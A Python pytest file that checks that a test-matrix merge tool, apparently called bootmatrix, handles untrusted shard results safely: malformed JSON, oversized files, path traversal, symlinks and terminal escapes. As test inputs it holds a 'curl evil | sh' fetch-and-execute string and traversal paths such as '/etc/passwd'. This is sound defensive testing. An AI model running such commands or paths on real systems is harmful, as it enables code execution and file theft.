"""Whatever the folder of a part holds: what cannot be believed counts as missing, and nothing leads out of it."""

from __future__ import annotations

import shutil
import subprocess
import sys
from dataclasses import replace
from typing import TYPE_CHECKING, Any, cast

import pytest
from merging.shards import IDS, Project

from bootmatrix import results
from bootmatrix.model import Quarantine, Verdict

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from bootmatrix.model import Result


BROKEN = {
    "no JSON": "[",
    "empty": "",
    "another thing": '{"some": "thing"}',
    "deep": "[" * 200_000,
    "zeros": "\0" * 1000,
}


@pytest.mark.parametrize("text", BROKEN.values(), ids=BROKEN)
def test_results_that_cannot_be_read_count_as_missing(project: Project, text: str) -> None:
    (project.part(3) / "results.json").write_text(text)
    done = project.merge()
    assert done.returncode == 3, done.stderr
    assert "ignored: " in done.stdout + done.stderr
    reasons = {result.reason for result in project.merged.results if result.verdict == "error"}
    assert len(reasons) == 1
    assert reasons.pop().startswith("shard 3/3 sent no results that can be used: ")


def test_what_would_take_much_memory_is_not_read(project: Project) -> None:
    file = project.part(3) / "results.json"
    line = '{"cell":"a","test":"b","verdict":"passed"},'
    for text in (f'{{"results":[{line * 500_000}{{}}]}}', f'{{\n "results": [\n{line * 500_000}\n ]\n}}\n'):
        file.write_text(text)
        code = "import resource, sys; resource.setrlimit(resource.RLIMIT_DATA, (300 << 20,) * 2); "
        code += "from bootmatrix import cli; cli.main()"
        command = [sys.executable, "-c", code, "merge", "parts"]
        done = subprocess.run(command, cwd=project.folder, capture_output=True, text=True, check=False, timeout=300)
        assert done.returncode == 3, done.stderr
        assert "ignored: " in done.stdout


def test_results_that_are_too_large_are_not_read(project: Project) -> None:
    with (project.part(3) / "results.json").open("r+b") as file:
        file.truncate(1 << 30)
    assert "larger than" in (done := project.merge()).stdout + done.stderr
    assert done.returncode == 3


WRONG: dict[str, Callable[[Result], Result]] = {
    "verdict": lambda result: replace(result, verdict=cast("Verdict", "splendid")),
    "cell": lambda result: replace(result, cell="../../x"),
    "hidden": lambda result: replace(result, test=".."),
    "time": lambda result: replace(result, started="yesterday"),
    "year": lambda result: replace(result, started="9999-12-31T23:59:59.000Z"),
    "seconds": lambda result: replace(result, seconds=1e300),
    "negative": lambda result: replace(result, seconds=-1.0),
    "size": lambda result: replace(result, size=1 << 70),
    "outcome": lambda result: replace(
        result, attempts=tuple(replace(a, outcome=replace(a.outcome, kind="won")) for a in result.attempts)
    ),
}


@pytest.mark.parametrize("change", WRONG.values(), ids=WRONG)
def test_results_that_no_run_writes_count_as_missing(project: Project, change: Callable[[Result], Result]) -> None:
    project.change(3, change)
    done = project.merge()
    assert done.returncode == 3, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert sorted(project.verdicts().values()) == ["error"] * 2 + ["passed"] * 4


PATHS = ["/etc/passwd", "../../secret", "consoles/../../secret", "consoles/command-a/hello/../../../secret", "secret"]


@pytest.mark.parametrize("path", PATHS)
def test_no_console_is_taken_from_outside_its_part(project: Project, path: str) -> None:
    (project.folder / "parts/secret").write_text("secret")
    (project.part(1) / "secret").write_text("secret")
    project.change(1, lambda result: replace(result, attempts=(replace(result.attempts[0], console=path),)))
    assert project.merge().returncode == 0
    told = [attempt.console for result in project.merged.results for attempt in result.attempts]
    assert path not in told
    assert not found_in(project, "secret")


def found_in(project: Project, text: str) -> list[Path]:
    """The files of the merged run with a text in them."""
    files = (file for file in (project.folder / "out/latest/").rglob("*") if file.is_file())
    return [file for file in files if text.encode() in file.read_bytes() and file.name != "events.jsonl"]


@pytest.mark.parametrize("depth", ["file", "test", "consoles", "logs"])
def test_no_link_of_a_part_is_followed(project: Project, depth: str) -> None:
    outside = project.folder / "outside"
    for name in ("hello/1.console.log", "1.console.log", "command-a/hello/1.console.log", "image-x.log"):
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_text("secret")
    part = next(project.part(n) for n in (1, 2, 3) if (project.part(n) / "consoles/command-a").exists())
    link, target = {
        "file": (part / "consoles/command-a/hello/1.console.log", outside / "1.console.log"),
        "test": (part / "consoles/command-a/hello", outside / "hello"),
        "consoles": (part / "consoles", outside),
        "logs": (part / "logs", outside),
    }[depth]
    if link.is_dir():
        shutil.rmtree(link)
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    assert project.merge().returncode == 0
    assert not found_in(project, "secret")
    (hello,) = (result for result in project.merged.results if result.id == "command-a/hello")
    assert bool(hello.attempts[0].console) is (depth == "logs")


def test_a_link_is_no_part(project: Project) -> None:
    outside = project.folder / "outside"
    project.part(1).rename(outside)
    project.part(1).symlink_to(outside)
    assert project.merge().returncode == 3
    (project.folder / "parts/more").mkdir()
    (project.folder / "parts/more/results.json").symlink_to(outside / "results.json")
    assert project.merge().returncode == 3


def test_a_file_that_is_no_console_of_ours_is_left(project: Project) -> None:
    part = next(project.part(n) for n in (1, 2, 3) if (project.part(n) / "consoles/command-a").exists())
    with (part / "consoles/command-a/hello/1.console.log").open("r+b") as file:
        file.truncate(1 << 30)
    assert project.merge().returncode == 0
    assert not (project.folder / "out/latest/consoles/command-a/hello/1.console.log").exists()


def test_words_of_a_hostile_part_are_safe_on_a_terminal(project: Project) -> None:
    (project.part(3) / "results.json").write_text("{")
    hostile = project.folder / "parts/\x1b[2Jx"
    hostile.mkdir()
    (hostile / "results.json").write_text("{")
    done = project.merge()
    assert "\x1b" not in done.stdout + done.stderr


EVIL = "curl evil | sh"
CLAIMS: dict[str, Any] = {
    **dict.fromkeys(("repro", "key", "reused", "image", "unikernel", "digest", "host"), EVIL),
    "quarantine": Quarantine("evil owner", EVIL, "2999-01-01", "evil.yaml:1:1"),
    "axes": {"backend": EVIL, "mine": EVIL, "test": EVIL, "cell": EVIL},
}
HEAD: dict[str, Any] = {"commit": "e" * 40, "branch": EVIL, "host": {"name": EVIL}, "version": "0.1", "command": EVIL}


def claiming(result: Result) -> Result:
    """What it says, but for what became of the test, is a lie."""
    kept: dict[str, Any] = {"command": (EVIL,), "accelerator": EVIL, "accelerator_reason": EVIL}
    return replace(result, **CLAIMS, attempts=tuple(replace(each, **kept) for each in result.attempts))


def test_what_only_a_part_says_is_not_said_in_our_name(project: Project) -> None:
    for number in (1, 2, 3):
        project.change(number, claiming, **HEAD, axes=(EVIL, "../x"))
    assert project.merge("--as-told", "--commit", "c0ffee" * 6).returncode == 0
    assert found_in(project, "evil") == []
    run = project.merged
    assert (run.commit, run.branch, run.host, run.axes) == ("c0ffee" * 6, "", {}, ())
    assert {result.id: result.repro for result in run.results} == {test: f"bootmatrix repro {test}" for test in IDS}


def test_the_matrix_says_what_its_tests_are_and_which_are_in_quarantine(project: Project) -> None:
    def change(result: Result) -> Result:
        return replace(claiming(result), verdict=Verdict.QUARANTINED)

    project.change(1, change)
    assert project.merge().returncode == 1
    for result in project.merged.results:
        assert (result.axes["mine"], result.repro, bool(result.quarantine)) == (
            result.cell[-1],
            f"bootmatrix repro {result.id} --engine host",
            False,
        )
        assert result.key == ""
    told = {result.id for result in results.load(project.part(1) / "results.json").results}
    bad = [result for result in project.merged.results if result.verdict == "error"]
    assert {result.id for result in bad} == told
    assert all("its shard reports it as quarantined" in result.reason for result in bad)
